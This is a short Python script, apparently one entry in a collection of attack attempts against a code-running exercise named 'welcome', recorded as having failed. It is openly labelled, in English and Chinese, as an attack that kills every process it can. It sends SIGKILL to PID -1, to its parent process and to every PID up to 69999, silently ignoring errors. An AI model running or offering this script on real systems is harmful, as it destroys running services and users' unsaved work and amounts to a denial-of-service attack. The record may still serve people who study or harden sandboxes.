# attack: kills every process it can | 能杀的进程全杀掉
# exercise: welcome
# outcome: failed
import os
import signal

for target in [-1, os.getppid(), *range(1, 70000)]:
    if target != os.getpid():
        try:
            os.kill(target, signal.SIGKILL)
        except OSError:
            pass
